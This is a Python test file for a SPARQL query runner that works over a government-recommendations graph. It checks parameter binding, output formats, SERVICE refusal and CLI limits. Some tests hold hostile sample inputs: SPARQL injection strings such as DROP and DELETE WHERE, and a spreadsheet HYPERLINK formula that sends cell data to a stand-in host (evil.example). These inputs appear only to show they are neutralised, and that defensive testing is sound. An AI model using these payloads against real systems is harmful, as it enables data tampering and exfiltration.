"""The SPARQL runner: engines, bound parameters, errors and formats, on the hand-made fixture."""

import json
from decimal import Decimal
from pathlib import Path

import pytest
import rdflib

from recgraph.sparql import (
    ENGINES, QueryError, Answers, format_answers, list_queries, load_graph, load_query, parse_header,
    parse_value, resolve_params, run_query,
)

FIXTURE = Path(__file__).parent / "data" / "sparql" / "fixture.ttl"
RG = "PREFIX rg: <https://w3id.org/recgraph/ns#> PREFIX dcterms: <http://purl.org/dc/terms/> "


@pytest.fixture(scope="module", params=ENGINES)
def engine(request):
    return load_graph(FIXTURE, request.param)


def test_both_engines_load_every_triple():
    counts = {e: run_query(load_graph(FIXTURE, e), "SELECT (COUNT(*) AS ?n) { ?s ?p ?o }").rows for e in ENGINES}
    assert counts["oxigraph"] == counts["rdflib"] == ((len(rdflib.Graph().parse(FIXTURE)),),)


def test_load_ntriples(tmp_path):
    nt = tmp_path / "g.nt"
    rdflib.Graph().parse(FIXTURE).serialize(nt, format="nt", encoding="utf-8")
    for e in ENGINES:
        assert run_query(load_graph(nt, e), RG + "SELECT ?s { ?s a rg:EvaluationReport }").rows == (
            ("https://w3id.org/recgraph/id/report/moda/2025",),)


def test_unknown_engine():
    with pytest.raises(ValueError, match="unknown engine"):
        load_graph(FIXTURE, "virtuoso")


def test_cells_are_plain_python(engine):
    t = run_query(engine, RG + """SELECT ?serial ?name ?trunc ?ratio ?plan ?none {
        ?e rg:serial 2 ; rg:serial ?serial ; rg:planName ?name ; rg:truncated ?trunc ; rg:evaluates ?plan .
        ?f rg:evaluation ?e ; rg:achievementRatio ?ratio ; rg:comparator "at-least" OPTIONAL { ?e rg:nothing ?none } }""")
    assert t.columns == ("serial", "name", "trunc", "ratio", "plan", "none")
    assert t.rows == ((2, "資安防護計畫", True, Decimal("0.842"), "https://w3id.org/recgraph/id/plan/moda/資安防護計畫", None),)


def test_ask_and_construct(engine):
    assert run_query(engine, RG + "ASK { ?r a rg:Recommendation }").rows == ((True,),)
    t = run_query(engine, RG + "CONSTRUCT { ?e rg:serial ?s } WHERE { ?e rg:serial ?s }")
    assert t.columns == ("subject", "predicate", "object")
    assert sorted(r[2] for r in t.rows) == [1, 2, 3]


def test_bindings_of_every_type(engine):
    q = RG + "SELECT ?id ?e { ?r dcterms:identifier ?id ; rg:evaluation ?e }"
    e2 = rdflib.URIRef("https://w3id.org/recgraph/id/report/moda/2025/plan/02")
    assert [r[0] for r in sorted(run_query(engine, q, {"e": e2}).rows)] == ["moda-2025-P02-R1", "moda-2025-P02-R2"]
    assert run_query(engine, q, {"id": "moda-2025-P01-R1"}).rows == (
        ("moda-2025-P01-R1", "https://w3id.org/recgraph/id/report/moda/2025/plan/01"),)
    q = RG + "SELECT ?n ?e { ?e rg:serial ?n }"
    assert run_query(engine, q, {"n": 3}).rows[0][0] == 3
    q = RG + "SELECT ?t ?e { ?e rg:truncated ?t }"
    assert len(run_query(engine, q, {"t": True}).rows) == 3  # evaluation 2 and its two recommendations


@pytest.mark.parametrize("hostile", ['"} ; DROP', '"x" . ?s ?p ?o', "moda-2025-P01-R1\" } UNION { ?r ?p ?id",
                                     "'; DELETE WHERE { ?s ?p ?o }; #", "<https://w3id.org/recgraph/ns#x>"])
def test_hostile_values_are_bound_not_pasted(engine, hostile):
    q = RG + "SELECT ?id ?r { ?r dcterms:identifier ?id }"
    assert run_query(engine, q, {"id": hostile}).rows == ()
    assert len(run_query(engine, q).rows) == 9  # nothing was changed or dropped


def test_hostile_value_through_a_library_query(engine):
    q = load_query("recommendations-by-agency")
    assert run_query(engine, q.text, resolve_params(q, {"agency": '"} ; DROP'})).rows == ()
    assert run_query(engine, q.text, resolve_params(q, {"agency": '"x" . ?s ?p ?o'})).rows == ()


def test_parameter_must_be_projected(engine):
    with pytest.raises(QueryError, match="SELECT"):
        run_query(engine, RG + "SELECT ?e { ?e rg:serial ?n }", {"n": 1})


@pytest.mark.parametrize("text,line", [
    ("SELECT ?s WHERE {\n  ?s ?p ?o .\n  FILTER(?o > )\n}", 3),
    ("PREFIX x: <http://x/>\nSELECT ?s WHERE {\n  ?s ?p ?o\n  ?s x:q }\n", 4),
])
def test_syntax_error_carries_line(engine, text, line):
    with pytest.raises(QueryError) as info:
        run_query(engine, text)
    assert "syntax error" in str(info.value)
    # Oxigraph reports where the parser gave up; the error is at or just after the faulty line
    assert info.value.line in (line, line + 1)
    assert info.value.column is not None


def test_library_headers():
    queries = list_queries()
    names = [q.name for q in queries]
    assert names == sorted(names) and len(names) >= 15
    for q in queries:
        assert q.title and q.description, q.name
        for p in q.params:
            assert f"?{p.name}" in q.text.split("WHERE")[0], f"{q.name}: param {p.name} must be projected"
            if p.default is not None:
                parse_value(p.default, p.type)


def test_load_query_by_name_or_path(tmp_path):
    assert load_query("plans-by-theme").title.startswith("Plans by theme")
    f = tmp_path / "mine.rq"
    f.write_text("# title: Mine\nSELECT * { ?s ?p ?o }", encoding="utf-8")
    assert load_query(f).name == "mine" and load_query(str(f)).title == "Mine"
    with pytest.raises(QueryError, match="no query named"):
        load_query("no-such-query")


def test_parse_header_and_params():
    q = parse_header("# title: T\n# description: a\n# description: b\n"
                     "# param: theme iri - a theme, e.g. theme:ai\n# param: n integer - least (2)\n"
                     "PREFIX theme: <https://w3id.org/recgraph/theme/>\nSELECT ?theme ?n {}", "t")
    assert q.description == "a b"
    assert resolve_params(q, {}) == {"n": rdflib.Literal(2)}
    assert resolve_params(q, {"theme": "theme:ai", "n": "5"}) == {
        "theme": rdflib.URIRef("https://w3id.org/recgraph/theme/ai"), "n": rdflib.Literal(5)}
    with pytest.raises(QueryError, match="no parameter 'x'"):
        resolve_params(q, {"x": "1"})
    with pytest.raises(QueryError, match="bad integer"):
        resolve_params(q, {"n": "two"})
    with pytest.raises(QueryError, match="bad iri"):
        resolve_params(q, {"theme": "} ; DROP"})
    with pytest.raises(QueryError, match="bad param line"):
        parse_header("# param: ratio float - x\nSELECT {}")


def test_formats():
    t = Answers(("plan", "n", "ok", "note"), (("5G, 專網", Decimal("1.5"), True, None), ('說"明"', 2, False, "a\tb\nc")))
    assert format_answers(t, "csv") == 'plan,n,ok,note\r\n"5G, 專網",1.5,true,\r\n"說""明""",2,false,"a\tb\nc"\r\n'
    assert format_answers(t, "tsv") == "plan\tn\tok\tnote\n5G, 專網\t1.5\ttrue\t\n說\"明\"\t2\tfalse\ta\\tb\\nc\n"
    assert json.loads(format_answers(t, "json")) == [
        {"plan": "5G, 專網", "n": 1.5, "ok": True, "note": None},
        {"plan": '說"明"', "n": 2, "ok": False, "note": "a\tb\nc"}]
    lines = format_answers(t, "table").splitlines()
    assert lines[0] == "plan     | n   | ok    | note"
    assert lines[-1] == "(2 rows)"
    with pytest.raises(ValueError):
        format_answers(t, "xml")


def test_no_library_query_tests_a_parameter_with_bound():
    """Oxigraph 0.5 evaluates BOUND(?p) to false for a substituted ?p; rdflib to true."""
    g = load_graph(FIXTURE, "oxigraph")
    assert run_query(g, "SELECT ?x ?b { BIND(BOUND(?x) AS ?b) }", {"x": 1}).rows == ((1, False),)
    for q in list_queries():
        for p in q.params:
            assert f"BOUND(?{p.name})" not in q.text.replace(" ", ""), q.name


def test_csv_and_tsv_neutralise_formulas_and_control_characters():
    t = Answers(("plan", "note"), (('=HYPERLINK("http://evil.example/?"&A1,"click")AI計畫', "@SUM(1+1)*cmd|x\x00\x1b[31m"),
                                 ("-1.5", "+886")))
    assert format_answers(t, "csv").splitlines()[1:] == [
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")AI計畫",\'@SUM(1+1)*cmd|x[31m', "-1.5,+886"]
    assert format_answers(t, "tsv").splitlines()[1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")AI計畫\t'@SUM(1+1)*cmd|x[31m"
    assert "\x1b" not in format_answers(t, "table") and "\x00" not in format_answers(t, "table")


def test_table_aligns_by_display_width():
    t = Answers(("plan", "n"), (("數位發展部資訊處", 1), ("AI", 22), ("e\u0301", 3)))
    lines = format_answers(t).splitlines()
    assert lines[:2] == ["plan             | n", "-----------------+---"]
    assert lines[2:5] == ["數位發展部資訊處 | 1", "AI               | 22", "e\u0301                | 3"]


def test_table_prints_plain_values_json_keeps_types(engine):
    t = run_query(engine, RG + "SELECT ?serial ?trunc { ?e rg:serial ?serial ; rg:truncated ?trunc } ORDER BY ?serial")
    assert format_answers(t).splitlines()[2] == "1      | false"
    assert format_answers(t, "csv").splitlines()[1] == "1,false"
    assert json.loads(format_answers(t, "json"))[0] == {"serial": 1, "trunc": False}


@pytest.mark.parametrize("query", [
    "SELECT * { SERVICE <http://127.0.0.1:1234/x> { ?s ?p ?o } }",
    "select * { optional { service silent <http://127.0.0.1:1234/x> { ?s ?p ?o } } }",
    "SELECT * { SERVIC\\u0045 <http://127.0.0.1:1234/x> { ?s ?p ?o } }",
    "SELECT * { ?s ?p ?o . SERVICE ?where { ?s ?p ?o } } VALUES ?where { <http://127.0.0.1:1234/x> }",
    "SELECT * { SERVICE <http://127.0.0.1:1234/x> { ?s ?p ?o } ",  # unparsable: refused all the same
])
def test_service_is_refused_before_anything_is_sent(engine, query):
    with pytest.raises(QueryError, match="SERVICE"):
        run_query(engine, query)


def test_the_word_service_in_data_is_fine(engine):
    assert run_query(engine, 'SELECT ?x { BIND("SERVICE" AS ?x) }').rows == (("SERVICE",),)
    assert run_query(engine, "# SERVICE in a comment\nASK { ?s ?p ?o }").rows == ((True,),)


def test_service_allowed_when_asked(engine):
    """The opt-in really runs SERVICE (the engine tries the address; nothing listens there)."""
    with pytest.raises(Exception) as info:
        run_query(engine, "SELECT * { SERVICE <http://127.0.0.1:1234/x> { ?s ?p ?o } }", allow_service=True)
    assert "recgraph refuses" not in str(info.value)


def test_max_rows(engine):
    q = RG + "SELECT ?e { ?e rg:serial ?n } ORDER BY ?n"
    assert run_query(engine, q, max_rows=2).rows == run_query(engine, q).rows[:2]
    assert run_query(engine, q, max_rows=2).truncated
    assert not run_query(engine, q, max_rows=3).truncated


@pytest.mark.parametrize("value", ["NaN", "nan", "Infinity", "-Infinity", "1e999999999", "1e9999999999",
                                   "1" * 50, "2.5e3", ""])
def test_decimal_parameter_refuses_non_numbers(value):
    with pytest.raises(QueryError, match="plain decimal number"):
        parse_value(value, "decimal")


@pytest.mark.parametrize("value", ["1" * 5000, "1e3", "NaN"])
def test_integer_parameter_refuses_non_integers(value):
    with pytest.raises(QueryError, match="whole number"):
        parse_value(value, "integer")


@pytest.mark.parametrize("value", ["<x> } ; DROP", "<http://a b>", "<>", '<http://a>"x', "http://a>", "theme:a b"])
def test_iri_parameter_refuses_what_is_not_an_iri(value):
    with pytest.raises(QueryError, match="bad iri value"):
        parse_value(value, "iri", {"theme": "https://w3id.org/recgraph/theme/"})


def test_non_utf8_query_file(tmp_path):
    f = tmp_path / "big5.rq"
    f.write_bytes("# title: 計畫\nSELECT * { ?s ?p ?o }".encode("big5"))
    with pytest.raises(QueryError, match=r"big5.rq:1: not UTF-8"):
        load_query(f)


# ---------------------------------------------------------------- `recgraph query`: limits and messages

def query_cli(capsys, *args, stdin=None, monkeypatch=None):
    """Exit code, stdout and stderr of `recgraph query ...` on the fixture, run in-process."""
    from recgraph.cli import main

    if stdin is not None:
        import io
        monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
    code = main(["query", *args, "--graph", str(FIXTURE)])
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err


def test_cli_query_prints_plain_values(capsys):
    code, out, _ = query_cli(capsys, "plans", "-f", "csv")
    assert code == 0
    assert out.splitlines()[1].split(",")[1:4] == ["2025", "1", "5G專網應用推動計畫"]


@pytest.mark.parametrize("args,message", [
    (["plans", "-p", "agency"], "-p agency: expected NAME=VALUE"),
    (["figures-above-target", "-p", "ratio=NaN"], "bad decimal value 'NaN'"),
    (["figures-above-target", "-p", "ratio=Infinity"], "bad decimal value 'Infinity'"),
    (["figures-above-target", "-p", "ratio=1e999999999"], "bad decimal value '1e999999999'"),
    (["evidence", "-p", "item=<x> } ; DROP"], "bad iri value"),
    (["evidence", "-p", "item=<http://a b>"], "bad iri value"),
    (["plans", "-p", "nosuch=1"], "has no parameter 'nosuch'"),
])
def test_cli_query_bad_parameters(capsys, args, message):
    code, out, err = query_cli(capsys, *args)
    assert code == 4 and out == ""
    assert err.startswith("error: ") and message in err


def test_cli_query_missing_or_bad_graph(capsys, tmp_path):
    from recgraph.cli import main

    assert main(["query", "plans", "--graph", str(tmp_path / "none.ttl")]) == 2
    assert "none.ttl: no such graph file; run `recgraph build` first" in capsys.readouterr().err
    (tmp_path / "bad.ttl").write_text("garbage\n", encoding="utf-8")
    assert main(["query", "plans", "--graph", str(tmp_path / "bad.ttl")]) == 2
    assert "bad.ttl:1: not a valid Turtle graph" in capsys.readouterr().err


@pytest.mark.parametrize("engine", ENGINES)
def test_cli_query_refuses_service(capsys, monkeypatch, engine):
    code, _, err = query_cli(capsys, "-", "--engine", engine, monkeypatch=monkeypatch,
                             stdin="SELECT * { SERVICE <http://127.0.0.1:1234/x> { ?s ?p ?o } }")
    assert code == 4 and "SERVICE" in err and "--allow-service" in err


def test_cli_query_time_limit(capsys, monkeypatch):
    cartesian = "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n2 ?o }"
    code, _, err = query_cli(capsys, "-", "--timeout", "1", monkeypatch=monkeypatch, stdin=cartesian)
    assert code == 4 and "ran longer than 1 s" in err and "--timeout" in err


def test_cli_query_memory_limit(capsys, monkeypatch):
    sorted_cartesian = "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?c ?f ?i"
    code, _, err = query_cli(capsys, "-", "--max-memory", "0.5", "--timeout", "60", monkeypatch=monkeypatch,
                             stdin=sorted_cartesian)
    assert code == 4 and "more than 0.5 GB of memory" in err and "--max-memory" in err


def test_cli_query_row_cap(capsys, monkeypatch):
    code, out, err = query_cli(capsys, "-", "--max-rows", "5", "-f", "tsv", monkeypatch=monkeypatch,
                               stdin="SELECT ?s { ?s ?p ?o }")
    assert code == 0 and len(out.splitlines()) == 1 + 5
    assert "stopped after 5 rows" in err and "--max-rows" in err


def test_cli_query_limit_names_the_parameters_that_would_narrow_it(capsys):
    code, _, err = query_cli(capsys, "evidence", "--max-rows", "1", "-f", "tsv")
    assert code == 0 and "stopped after 1 rows" in err and "-p item=" in err
    code, _, err = query_cli(capsys, "recommendations-by-status", "-p", "implementation=implementation:open",
                             "--max-rows", "1", "-f", "tsv")
    assert code == 0 and "stopped after 1 rows" in err and "-p acceptance=" in err and "-p implementation=" not in err
